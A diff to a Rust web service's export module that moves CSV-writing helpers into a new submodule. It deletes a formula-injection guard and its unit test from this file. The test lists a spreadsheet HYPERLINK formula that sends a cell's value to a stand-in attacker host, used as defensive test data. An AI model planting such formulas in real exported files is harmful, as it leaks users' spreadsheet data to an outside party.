@@ -2,11 +2,15 @@
 //! one JSON document, streamed in batches so memory stays flat however many
 //! rows there are. Lists choose JSON pages or a bulk format here.
 
+mod csv;
+
+use csv::csv_lines;
+pub use csv::{Tabular, cell, text};
+
 use actix_web::http::header::{
     self, ContentDisposition, DispositionParam, DispositionType, Header,
 };
 use actix_web::web::{Bytes, Data};
-use std::borrow::Cow;
 
 use actix_web::{HttpRequest, HttpResponse};
 use diesel::{QueryResult, SqliteConnection};
@@ -84,26 +88,6 @@ impl FileFormat {
             ))
         })
     }
-}
-
-/// A record that has a flat CSV form.
-pub trait Tabular: Serialize {
-    /// The header row.
-    const HEADER: &'static [&'static str];
-    /// One row, in header order; empty for null, `;`-joined slugs for
-    /// relations. Borrowed where it can be: copying every body into a
-    /// new string showed up in the export's profile.
-    fn record(&self) -> Vec<Cow<'_, str>>;
-}
-
-/// A field of a CSV row: empty for `None`.
-pub fn cell<T: ToString>(value: &Option<T>) -> Cow<'static, str> {
-    Cow::Owned(value.as_ref().map(ToString::to_string).unwrap_or_default())
-}
-
-/// A text field of a CSV row, borrowed; empty for `None`.
-pub fn text(value: &Option<String>) -> Cow<'_, str> {
-    Cow::Borrowed(value.as_deref().unwrap_or_default())
 }
 
 /// Loads one page or batch of a list.
@@ -206,59 +190,6 @@ pub fn rows<T: Send + 'static>(
     })
 }
 
-fn csv_lines<T: Tabular>(batch: &[T], with_header: bool) -> Result<Bytes, ApiError> {
-    let mut writer = csv::WriterBuilder::new()
-        .terminator(csv::Terminator::CRLF)
-        .from_writer(Vec::with_capacity(batch.len() * 128));
-    let fail = |e: csv::Error| ApiError::Internal(e.into());
-    if with_header {
-        writer.write_record(T::HEADER).map_err(fail)?;
-    }
-    for row in batch {
-        let record = row.record();
-        writer
-            .write_record(record.iter().map(|field| defused(field)))
-            .map_err(fail)?;
-    }
-    writer
-        .into_inner()
-        .map(Bytes::from)
-        .map_err(|e| ApiError::Internal(anyhow::anyhow!("csv: {e}")))
-}
-
-/// A CSV cell as a spreadsheet may open it: a text that a spreadsheet
-/// would run as a formula (it starts with `=`, `+`, `-`, `@`, a tab or a
-/// carriage return) is led by `'`, which spreadsheets read as "this is
-/// text". Numbers (`-3.5`, a longitude) stay numbers. JSON and NDJSON are
-/// never changed.
-fn defused(cell: &str) -> Cow<'_, [u8]> {
-    match cell.as_bytes().first() {
-        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') if !is_number(cell) => {
-            let mut quoted = Vec::with_capacity(cell.len() + 1);
-            quoted.push(b'\'');
-            quoted.extend_from_slice(cell.as_bytes());
-            Cow::Owned(quoted)
-        }
-        _ => Cow::Borrowed(cell.as_bytes()),
-    }
-}
-
-/// A decimal number as this service writes one: an optional sign, digits,
-/// an optional fraction and exponent.
-fn is_number(cell: &str) -> bool {
-    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
-    let unsigned = cell.strip_prefix(['-', '+']).unwrap_or(cell);
-    let (mantissa, exponent) = match unsigned.split_once(['e', 'E']) {
-        Some((m, e)) => (m, Some(e.strip_prefix(['-', '+']).unwrap_or(e))),
-        None => (unsigned, None),
-    };
-    let whole = match mantissa.split_once('.') {
-        Some((int, frac)) => digits(int) && digits(frac),
-        None => digits(mantissa),
-    };
-    whole && exponent.is_none_or(digits)
-}
-
 fn ndjson_lines<T: Serialize>(batch: &[T]) -> Result<Bytes, ApiError> {
     let mut out = Vec::with_capacity(batch.len() * 256);
     for row in batch {
@@ -289,33 +220,4 @@ pub fn json_array<T: Serialize + Send + 'static>(
     stream::once(async { Ok(Bytes::from_static(b"[")) })
         .chain(body)
         .chain(stream::once(async { Ok(Bytes::from_static(b"]")) }))
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn csv_cells_a_spreadsheet_would_run_are_led_by_a_quote() {
-        for (cell, written) in [
-            (
-                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
-                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
-            ),
-            ("+33 3 20 21 22 23", "'+33 3 20 21 22 23"),
-            ("-1+1", "'-1+1"),
-            ("@SUM(A1)", "'@SUM(A1)"),
-            ("\tx", "'\tx"),
-            ("\rx", "'\rx"),
-            ("-", "'-"),
-            ("-inf", "'-inf"),
-            ("-3.5", "-3.5"),
-            ("-12", "-12"),
-            ("1e-7", "1e-7"),
-            ("Lille = Rijsel", "Lille = Rijsel"),
-            ("", ""),
-        ] {
-            assert_eq!(defused(cell).as_ref(), written.as_bytes(), "{cell:?}");
-        }
-    }
 }
